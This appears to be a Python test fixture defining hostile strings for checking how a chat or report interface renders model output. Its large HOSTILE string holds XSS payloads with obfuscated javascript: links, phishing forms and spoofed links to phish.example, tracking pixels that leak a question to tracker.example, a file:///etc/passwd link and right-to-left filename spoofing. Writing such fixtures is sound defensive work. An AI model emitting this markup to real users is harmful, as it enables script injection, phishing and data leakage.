"""Text that means harm, as it could come out of data that a language model read."""

BRACKETS = "[" * 5_000
OPEN_LINKS = "[a](" * 5_000
DEEP_QUOTES = "> " * 2_000 + "deep"
NAME = "Revenue <b>& returns</b> <script>alert('name')</script>"
QUESTION = "<img src=x onerror=alert('question')> What does [this](javascript:alert('question')) do?"

HOSTILE = """This was in the product description that you asked about:

<script>alert('ran')</script>
<img src="https://tracker.example/pixel.png" onerror="alert('ran')">
<svg onload="alert('ran')"><a xlink:href="javascript:alert('ran')">x</a></svg>
<style>body { display: none }</style>
<div style="position:fixed;inset:0;background:red" onclick="alert('ran')">over everything</div>
<form action="https://phish.example/"><input name="password"><button>Sign in again</button></form>
<iframe src="https://phish.example/"></iframe> <object data="https://phish.example/"></object> <base href="https://phish.example/">
<meta http-equiv="refresh" content="0;url=https://phish.example/"> <link rel="stylesheet" href="https://phish.example/x.css">
<a href="javascript:alert('ran')">a link</a> <a href="https://phish.example/" target="_blank">https://my-org.omni.co/</a>
<details ontoggle="alert('ran')" open><summary>More</summary></details> <b>unclosed <i>twice <table><tr><td>

[A link](javascript:alert('ran')) · [another](JaVaScRiPt:alert('ran')) · [data](data:text/html,<script>alert(1)</script>)
· [spelled](&#106;avascript:alert('ran')) · [with a tab](java\tscript:alert('ran')) · [vbscript](vbscript:msgbox(1))
· [https://my-org.omni.co](https://phish.example/omni) · [no scheme](//phish.example) · [user](https://my-org.omni.co@phish.example/)
· [my-org.omni.co/chat](https://xn--my-rg-7ta.example/chat "https://my-org.omni.co/chat") · [file](file:///etc/passwd)

![tracking pixel](https://tracker.example/pixel.gif) ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![what you asked](https://tracker.example/collect?question=revenue) ![x](x "\\" onerror=\\"alert('ran')")

<https://phish.example/?q="><script>alert('ran')</script>> and [ref][evil]

[evil]: javascript:alert('ran') "title"

The file is named \u202egnp.exe\u202c and has zero\u200bwidth and soft\u00adhyphens. \u2066\u202eThis line turns around\u2069

```html
<script>alert('in code, as it should be')</script>
```

```"><script>alert('ran')</script>
a fence with a language that is none
```

`<img src=x onerror=alert('ran')>`

| <script>alert('ran')</script> | b |
|---|---|
| <img src=x onerror=alert('ran')> | javascript:alert('ran') |

## <a name="message-1" id="message-1" class="app-header">A heading that takes another's place</a> {: onclick=alert(1) #header }

<!-- a comment --> <noscript><p title="</noscript><img src=x onerror=alert('ran')>">"""
